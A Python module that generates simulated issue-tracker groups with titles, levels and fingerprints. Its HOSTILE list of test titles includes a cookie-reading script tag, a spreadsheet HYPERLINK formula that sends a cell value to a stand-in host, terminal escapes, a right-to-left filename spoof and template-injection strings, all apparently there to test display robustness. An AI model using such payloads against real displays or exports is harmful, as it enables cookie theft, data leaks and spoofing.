"""What simulated issues are called: group types, titles, and a few titles that no display may trip over."""

import hashlib
from dataclasses import dataclass
from typing import Final

import numpy as np
import numpy.typing as npt

from issue_analytics.issues import group_type

__all__ = ["HOSTILE", "TYPES", "SimulatedType", "Wording", "fingerprint_of", "is_hostile", "word"]

Floats = npt.NDArray[np.float64]


@dataclass(frozen=True, slots=True)
class SimulatedType:
    """A group type as simulated groups have it; what the tracker itself says of it is in the registry.

    Args:
        id: the type id in occurrence records.
        level: level of its occurrences; errors have levels of several kinds.
        share: weight among simulated groups.
        titles: templates; ``{place}`` and ``{thing}`` are filled in.
    """

    id: int
    level: str
    share: float
    titles: tuple[str, ...]

    @property
    def slug(self) -> str | None:
        """Its name in the REST API."""
        return group_type(self.id).slug

    @property
    def category(self) -> str | None:
        """Its category there."""
        return group_type(self.id).category

    @property
    def priority(self) -> int | None:
        """25 low, 50 medium, 75 high."""
        return group_type(self.id).default_priority

    @property
    def escalates(self) -> bool | None:
        """Whether limits are made for it at all."""
        return group_type(self.id).escalates


TYPES: Final = (
    SimulatedType(
        1,
        "error",
        0.62,
        (
            "KeyError: '{thing}'",
            "TypeError: '{thing}' is undefined in {place}",
            "ValueError: invalid literal for {thing}: ''",
            "ConnectionError: {place}: connection reset by peer",
            "TimeoutError: {thing} took longer than 30 s in {place}",
            'IntegrityError: duplicate key value violates unique constraint "{thing}_pkey"',
            "PermissionDenied: {thing} may not be read by {place}",
            "NullPointerException: {place}.{thing}",
            "HTTPError: 503 from upstream {thing}",
            "OperationalError: deadlock detected while updating {thing}",
        ),
    ),
    SimulatedType(1001, "info", 0.05, ("Slow DB Query",)),
    SimulatedType(1006, "info", 0.08, ("N+1 Query",)),
    SimulatedType(1007, "info", 0.02, ("Consecutive DB Queries",)),
    SimulatedType(1009, "info", 0.04, ("Consecutive HTTP",)),
    SimulatedType(1010, "info", 0.05, ("N+1 API Call",)),
    SimulatedType(1015, "info", 0.03, ("Large HTTP payload",)),
    SimulatedType(2007, "info", 0.02, ("Regex on Main Thread",)),
    SimulatedType(4001, "error", 0.04, ("Monitor failure: {thing}",)),
    SimulatedType(5002, "error", 0.02, ("Rage Click",)),
    SimulatedType(6001, "info", 0.02, ("User Feedback",)),
    SimulatedType(7001, "error", 0.01, ("Downtime detected for {thing}.example",)),
)
"""The types that simulated groups have; mostly errors and performance problems."""

_LEVELS: Final = ("error", "error", "error", "error", "warning", "fatal")

_PLACES: Final = (
    "shop.checkout",
    "shop.cart",
    "billing.invoices",
    "api.v2.orders",
    "search.suggest",
    "auth.session",
    "mobile.sync",
    "media.resize",
    "mail.digest",
    "admin.export",
)

_THINGS: Final = (
    "shipping_address",
    "invoice",
    "customer",
    "session_token",
    "thumbnail",
    "price_list",
    "locale",
    "webhook",
    "nightly-report",
    "coupon",
    "order_item",
    "device",
)

HOSTILE: Final = (
    "<script>alert(document.cookie)</script>",
    r"ZeroDivisionError: $\frac{1}{0}$ of $x_",
    '=HYPERLINK("https://example.com/?leak="&A1,"invoice")',
    "\x1b[31mred\x1b[0m\x07 and \x1b]0;title\x07",
    "TypeError: \u202egnp.exe\u202c in upload",
    "Error: " + "a very long message, " * 480,
    'Quote " backslash \\ comma, semicolon; tab\t pipe | and\nnewline',
    "{{ 7 * 7 }} {% raw %} %s %d {0} </td></table><!--",
    "Ünïcödé 🔥 e\u0301 中文 عربى \ufeff\u200b",
)
"""Titles that somebody else wrote: markup, mathtext, a formula, terminal escapes, right-to-left marks, great length,
separators, templates, letters beyond ASCII. Every simulation of 40 groups or more has them all."""


@dataclass(frozen=True, slots=True)
class Wording:
    """The texts of all groups, in the order of the groups."""

    type_index: npt.NDArray[np.int64]
    title: list[str]
    subtitle: list[str]
    culprit: list[str]
    level: list[str]
    fingerprint: list[list[str]]


def word(project_id: npt.NDArray[np.int64], draws: Floats) -> Wording:
    """Word the groups.

    Args:
        project_id: of each group.
        draws: uniform in [0, 1), shape (groups, 5).
    """
    share = np.cumsum([kind.share for kind in TYPES])
    type_index = np.minimum(np.searchsorted(share / share[-1], draws[:, 0], side="right"), len(TYPES) - 1)
    place = [_PLACES[i] for i in (draws[:, 1] * len(_PLACES)).astype(int).tolist()]
    thing = [_THINGS[i] for i in (draws[:, 2] * len(_THINGS)).astype(int).tolist()]
    kinds = [TYPES[i] for i in type_index.tolist()]
    template = [kind.titles[int(u * len(kind.titles))] for kind, u in zip(kinds, draws[:, 3].tolist(), strict=True)]
    level = [
        _LEVELS[int(u * len(_LEVELS))] if kind.id == 1 else kind.level
        for kind, u in zip(kinds, draws[:, 4].tolist(), strict=True)
    ]
    title = [text.format(place=p, thing=t) for text, p, t in zip(template, place, thing, strict=True)]
    for at, text in zip(np.nonzero(is_hostile(len(title)))[0].tolist(), HOSTILE, strict=False):
        title[at] = text
    return Wording(
        type_index=type_index.astype(np.int64),
        title=title,
        subtitle=[f"{p} while handling {t}" for p, t in zip(place, thing, strict=True)],
        culprit=[f"{p} in handle_{t.replace('-', '_')}" for p, t in zip(place, thing, strict=True)],
        level=level,
        fingerprint=[
            fingerprint_of(project, number, parts=2 if number % 10 == 0 else 1)
            for number, project in enumerate(project_id.tolist())
        ],
    )


def is_hostile(groups: int) -> npt.NDArray[np.bool_]:
    """Which groups have a hostile title: every fourth of the first ones, until each title was used once.

    >>> is_hostile(10).nonzero()[0].tolist()
    [3, 7]
    """
    number = np.arange(groups)
    hostile: npt.NDArray[np.bool_] = (number % 4 == 3) & (number < 4 * len(HOSTILE))
    return hostile


def fingerprint_of(project_id: int, number: int, *, parts: int = 1) -> list[str]:
    """A fingerprint as the tracker stores it: each part as the hex of its MD5.

    >>> fingerprint_of(101, 0)
    ['d5e95d237e70e8bab538e166cb94f105']
    """
    raw = [f"simulated-{project_id}-{number}", "v2"][:parts]
    return [hashlib.md5(part.encode(), usedforsecurity=False).hexdigest() for part in raw]
